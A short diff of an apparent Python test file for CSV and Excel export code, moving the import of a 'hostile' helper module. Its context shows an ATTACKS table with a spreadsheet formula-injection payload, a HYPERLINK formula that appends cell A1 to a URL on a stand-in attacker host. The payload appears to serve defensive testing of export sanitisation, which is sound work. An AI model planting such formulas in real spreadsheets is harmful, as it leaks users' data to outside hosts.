@@ -12,8 +12,8 @@ import pandas as pd
 from openpyxl import load_workbook
 from python_calamine import CalamineWorkbook
 
-import hostile
 from analytics.export import safe_sheet_name, to_csv_bytes, to_xlsx_bytes
+from tests.support import hostile
 
 ATTACKS = {
     "AI-1": "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
